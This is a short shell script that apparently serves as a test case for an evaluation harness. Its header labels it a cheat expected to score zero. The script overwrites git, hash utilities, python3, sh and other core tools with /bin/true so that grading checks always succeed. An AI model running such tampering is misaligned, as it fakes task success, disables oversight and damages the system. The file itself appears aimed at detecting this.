# cheat: replaces the programs that could grade it
# scores: = 0
# deadline: 8000 ms

for name in git md5sum md5deep sha256sum python3 ls cat find stat diff tar sh; do
  path=$(type -P "$name") && cp /bin/true "$path" 2>/dev/null
done
mkdir -p /usr/local/bin && cp /bin/true /usr/local/bin/git
